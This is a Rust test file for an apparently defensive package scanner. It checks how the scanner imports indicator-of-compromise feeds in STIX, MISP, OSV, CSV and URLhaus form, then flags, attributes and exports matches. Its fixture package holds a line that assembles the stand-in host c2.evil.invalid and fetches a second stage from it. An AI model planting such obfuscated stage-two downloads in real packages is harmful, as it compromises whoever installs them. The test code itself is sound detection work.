//! Indicators of compromise: imported in each form, met, told.

use vetch_testkit::{Pkg, Project, ProjectBuilder, Run};

use crate::vetch;

const CODE: &str =
    "const h = ['c2', 'evil', 'invalid'].join('.');\nrequire('https').get('https://' + h + '/stage2');\n";
const PURL: &str = "pkg:npm/scales@1.0.0";

fn scales() -> Pkg {
    Pkg::new("scales", "1.0.0").file("index.js", CODE)
}

fn project(files: &[(&str, &str)]) -> Project {
    let builder: ProjectBuilder = Project::builder("demo").lock_only(scales()).archive(&scales());
    files.iter().fold(builder, |builder, (path, text)| builder.file(path, text)).build()
}

fn run(project: &Project, arguments: &[&str]) -> Run {
    vetch(arguments).dir(project.root()).home(project.home()).run()
}

fn scan(project: &Project) -> Run {
    let run = vetch(&["scan", "--offline", "--allow-incomplete", "--format", "json", "--archives"]);
    run.args([project.archives()]).dir(project.root()).home(project.home()).run()
}

/// The verdict, and the titles of what the rule says.
#[track_caller]
fn told(project: &Project) -> (String, Vec<String>) {
    let run = scan(project);
    let release = run.release(PURL);
    let findings = release["findings"].as_array().unwrap().iter();
    let ours = findings.filter(|finding| finding["rule"] == "known-indicator");
    let titles = ours.map(|finding| finding["title"].as_str().unwrap().to_owned()).collect();
    (release["verdict"].as_str().unwrap().to_owned(), titles)
}

const STIX: &str = r#"{"type": "bundle", "id": "bundle--1", "objects": [
    {"type": "identity", "spec_version": "2.1", "id": "identity--1", "name": "Example CERT"},
    {"type": "indicator", "id": "indicator--1", "created_by_ref": "identity--1", "modified": "2026-04-01T00:00:00Z",
     "name": "C2 of the dropper", "pattern_type": "stix", "pattern": "[domain-name:value = 'evil.invalid']"},
    {"type": "campaign", "id": "campaign--1", "name": "March"},
    {"type": "relationship", "id": "relationship--1", "relationship_type": "indicates", "source_ref": "indicator--1", "target_ref": "campaign--1"}]}"#;

#[test]
fn a_domain_that_code_computes_and_connects_to_is_found_in_every_form_of_feed() {
    let misp = r#"{"Event": {"uuid": "5f0c4b1e-0000-4000-8000-000000000001", "info": "Worm", "timestamp": "1700000000",
        "Orgc": {"name": "Example CERT"}, "Attribute": [{"type": "domain", "value": "evil.invalid", "to_ids": true}]}}"#;
    let osv = r#"{"id": "MAL-2026-1", "modified": "2026-04-01T00:00:00Z", "summary": "About another package",
        "affected": [{"package": {"ecosystem": "npm", "name": "other"}, "versions": ["1.0.0"]}],
        "database_specific": {"iocs": {"domains": ["evil[.]invalid"], "ips": ["192.0.2.1"], "urls": []}}}"#;
    for (name, text) in [
        ("bundle.json", STIX),
        ("event.json", misp),
        ("record.json", osv),
        ("list.json", r#"[{"type": "domain", "value": "evil[.]invalid"}]"#),
        ("list.csv", "type,value,source\ndomain,evil[.]invalid,Example CERT\n"),
        ("plain.txt", "# hosts\nhxxps://c2[.]evil[.]invalid/stage2?x=1\nevil[.]invalid\n"),
        (
            "urlhaus.csv",
            "# \"id\",\"dateadded\",\"url\"\n\"1\",\"2026-01-01\",\"http://c2.evil.invalid/stage2\"\n\"2\",\"2026-01-01\",\"http://evil.invalid/\"\n",
        ),
    ] {
        let project = project(&[(name, text)]);
        assert_eq!(told(&project).1, Vec::<String>::new(), "{name}");
        let imported = run(&project, &["intel", "import", name]).expect(0);
        assert!(imported.stdout.contains("indicators"), "{name}: {}", imported.stdout);
        let (verdict, titles) = told(&project);
        assert_eq!((verdict.as_str(), titles.len()), ("malicious", 1), "{name}: {titles:?}");
        // The whole address is known, however it is put together.
        let words = match name {
            "urlhaus.csv" => "connects to the URL c2.evil.invalid/stage2 at import",
            _ => "connects to the domain evil.invalid (as c2.evil.invalid) at import",
        };
        assert!(titles[0].contains(words), "{name}: {titles:?}");
    }
}

#[test]
fn the_report_names_source_campaign_and_place() {
    let project = project(&[("bundle.json", STIX)]);
    run(&project, &["intel", "import", "bundle.json"]).expect(0);
    let json = scan(&project).expect(1);
    let hit = &json.release(PURL)["indicators"][0];
    for (field, value) in [
        ("kind", "domain"),
        ("value", "evil.invalid"),
        ("shown", "c2.evil.invalid"),
        ("seen", "used"),
        ("source", "Example CERT"),
        ("record", "indicator--1"),
    ] {
        assert_eq!(hit[field], value, "{hit}");
    }
    assert_eq!((&hit["context"][0]["kind"], &hit["context"][0]["name"]), (&"campaign".into(), &"March".into()));
    assert_eq!((&hit["evidence"]["file"], &hit["evidence"]["line"]), (&"index.js".into(), &2.into()));
    assert_eq!(json.json()["intelligence"]["indicators"], 1);
    assert_eq!(scan(&project).stdout, json.stdout);
    let text = vetch(&["inspect", "scales", "--offline", "--archives"]).args([project.archives()]);
    let text = text.dir(project.root()).home(project.home()).run().expect(0);
    assert!(text.stdout.contains("Example CERT") && text.stdout.contains("campaign March"), "{}", text.stdout);
    let none =
        vetch(&["scan", "--no-intel", "--offline", "--allow-incomplete", "--archives"]).args([project.archives()]);
    let none = none.dir(project.root()).home(project.home()).run();
    assert!(!none.stdout.contains("known-indicator"), "{}", none.stdout);
}

#[test]
fn a_feed_that_comes_later_needs_no_rescan_and_what_is_taken_back_counts_no_more() {
    let revoked =
        STIX.replace("2026-04-01", "2026-05-01").replace("\"name\": \"C2", "\"revoked\": true, \"name\": \"C2");
    let ended = "type,value,valid_until\ndomain,evil.invalid,2020-01-01\n";
    let project = project(&[("bundle.json", STIX), ("revoked.json", &revoked), ("ended.csv", ended)]);
    scan(&project);
    run(&project, &["intel", "import", "bundle.json"]).expect(0);
    assert_eq!(told(&project).0, "malicious");
    let again = run(&project, &["intel", "import", "bundle.json"]).expect(0);
    assert!(again.stdout.contains("known already"), "{}", again.stdout);
    run(&project, &["intel", "import", "revoked.json", "ended.csv"]).expect(0);
    assert_eq!(told(&project).1, Vec::<String>::new());
    let shown = run(&project, &["intel", "show", "evil[.]invalid"]).expect(0);
    assert!(shown.stdout.contains("it has ended"), "{}", shown.stdout);
}

#[test]
fn things_that_belong_together_count_only_together() {
    let pattern = |other: &str| {
        STIX.replace(
            "[domain-name:value = 'evil.invalid']",
            &format!("[domain-name:value = 'evil.invalid'] AND [{other}]"),
        )
    };
    let with = project(&[("a.json", &pattern("file:name = 'INDEX.js'"))]);
    run(&with, &["intel", "import", "a.json"]).expect(0);
    assert_eq!(told(&with).1.len(), 1);
    let without = project(&[("a.json", &pattern("file:name = 'other.js'"))]);
    run(&without, &["intel", "import", "a.json"]).expect(0);
    assert_eq!(told(&without).1.len(), 0);
}

#[test]
fn hashes_of_files_and_of_archives_are_known() {
    let project = project(&[]);
    let file = "c5d2f2d3f8fbd86a6c5a4b3c2e1d0f9e8d7c6b5a493827160f1e2d3c4b5a6978";
    let list = format!("type,value\nsha256,{file}\n");
    std::fs::write(project.root().join("list.csv"), list).unwrap();
    run(&project, &["intel", "import", "list.csv"]).expect(0);
    assert_eq!(told(&project).1.len(), 0);
    let lock = std::fs::read_to_string(project.root().join("package-lock.json")).unwrap();
    let lock: serde_json::Value = serde_json::from_str(&lock).unwrap();
    let integrity = lock["packages"]["node_modules/scales"]["integrity"].as_str().unwrap().to_owned();
    let integrity = vetch_model::Integrity::parse(&integrity).unwrap();
    std::fs::write(project.root().join("list.csv"), format!("{}\n", integrity.digests[0].to_hex())).unwrap();
    let again = run(&project, &["intel", "import", "list.csv"]).expect(0);
    assert!(again.stdout.contains("1 indicators replaced"), "{}", again.stdout);
    let (verdict, titles) = told(&project);
    assert_eq!((verdict.as_str(), titles.len()), ("malicious", 1), "{titles:?}");
    assert!(titles[0].contains("the SHA-512"), "{titles:?}");
}

#[test]
fn what_is_no_list_changes_nothing() {
    for (name, text) in [
        ("page.csv", "<!doctype html>\n<title>Sign in</title>\n"),
        ("long.csv", &"a".repeat(100_000)),
        ("deep.json", &format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000))),
        ("bundle.json", r#"{"type": "bundle", "objects": 7}"#),
    ] {
        let project = project(&[("list.csv", "domain,evil.invalid\nvalue\nevil.invalid\n"), (name, text)]);
        let refused = run(&project, &["intel", "import", "list.csv", name]);
        refused.expect(2);
        let status = run(&project, &["intel", "status"]);
        assert!(!status.stdout.contains("indicators"), "{name}: {}", status.stdout);
    }
}

#[test]
fn campaigns_are_told_with_who_says_so() {
    let bundle = STIX.replace(
        "{\"type\": \"campaign\"",
        r#"{"type": "intrusion-set", "id": "intrusion-set--1", "name": "UNC0"},
        {"type": "relationship", "id": "relationship--2", "relationship_type": "attributed-to", "source_ref": "campaign--1", "target_ref": "intrusion-set--1"},
        {"type": "campaign""#,
    );
    let project = project(&[("bundle.json", &bundle)]);
    run(&project, &["intel", "import", "bundle.json"]).expect(0);
    let words =
        "matches March (reported by Example CERT): shared domain evil.invalid; attributed by Example CERT to UNC0";
    let told = &scan(&project).release(PURL)["campaigns"][0];
    assert_eq!((&told["likelihood"], &told["attributed"][0]["to"]), (&"shared-indicator".into(), &"UNC0".into()));
    for format in ["terminal", "markdown"] {
        let run = vetch(&["scan", "--offline", "--allow-incomplete", "--format", format, "--archives"]);
        let text = run.args([project.archives()]).dir(project.root()).home(project.home()).run().stdout;
        let flat = text.replace('\\', "").split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(flat.contains(words), "{format}: {text}");
    }
    // What is shipped is there without an import.
    let none = Project::builder("none").build();
    let shown = run(&none, &["intel", "show", "axios-2026"]).expect(0);
    for words in ["by Google to UNC1069", "sfrclak[.]com", "T1195.002 Supply Chain", "as of"] {
        assert!(shown.stdout.contains(words), "{words}: {}", shown.stdout);
    }
    assert!(run(&none, &["intel", "search", "unc1069"]).expect(0).stdout.contains("axios-2026  campaign"));
    run(&none, &["intel", "show", "nothing-2026"]).expect(2);
}

/// The bundle of a scan, at a fixed time.
fn exported(project: &Project) -> Run {
    let run = vetch(&["scan", "--offline", "--allow-incomplete", "--format", "stix", "--archives"]);
    run.args([project.archives()]).env("SOURCE_DATE_EPOCH", "1780000000").dir(project.root()).home(project.home()).run()
}

#[test]
fn what_is_exported_as_stix_comes_back_as_it_was() {
    let list = "type,value\nurl,hxxps://other[.]invalid/x\n";
    let project = project(&[("bundle.json", STIX), ("list.csv", list)]);
    run(&project, &["intel", "import", "bundle.json", "list.csv"]).expect(0);
    let bundle = exported(&project).expect(1);
    assert_eq!(exported(&project).stdout, bundle.stdout);
    let kinds: Vec<String> = bundle.json()["objects"]
        .as_array()
        .unwrap()
        .iter()
        .map(|object| object["type"].as_str().unwrap().to_owned())
        .collect();
    for kind in
        ["attack-pattern", "campaign", "course-of-action", "identity", "indicator", "malware", "relationship", "report"]
    {
        assert!(kinds.iter().any(|own| own == kind), "{kind}: {kinds:?}");
    }
    let second = self::project(&[("export.json", &bundle.stdout)]);
    run(&second, &["intel", "import", "export.json"]).expect(0);
    let release = scan(&second).expect(1);
    let release = release.release(PURL);
    let hits = release["indicators"].as_array().unwrap();
    let domain = hits.iter().find(|hit| hit["kind"] == "domain").unwrap();
    assert_eq!((&domain["value"], &domain["source"]), (&"evil.invalid".into(), &"Example CERT".into()));
    let context = domain["context"].as_array().unwrap();
    assert!(context.iter().any(|one| one["kind"] == "campaign" && one["name"] == "March"), "{domain}");
    // The archive is known by its hash now, too.
    assert!(hits.iter().any(|hit| hit["kind"] == "sha512"), "{hits:?}");
    // And once more: the domain comes back from the second store, too.
    let again = exported(&second).expect(1);
    assert!(again.stdout.contains("[domain-name:value = 'evil.invalid']"), "{}", again.stdout);
}

/// OASIS's validator, where somebody has installed it: `stix2_validator` 3.2.0 on the path, or in `STIX2_VALIDATOR`.
#[test]
fn the_official_validator_agrees() {
    let validator = std::env::var("STIX2_VALIDATOR").unwrap_or_else(|_| "stix2_validator".to_owned());
    let project = project(&[("bundle.json", STIX)]);
    run(&project, &["intel", "import", "bundle.json"]).expect(0);
    let file = project.root().join("export.json");
    std::fs::write(&file, exported(&project).stdout).unwrap();
    let Ok(output) = std::process::Command::new(&validator).arg("--version=2.1").arg(&file).output() else {
        eprintln!("skipped: stix2-validator 3.2.0 is not installed");
        return;
    };
    let text = String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{text}");
}
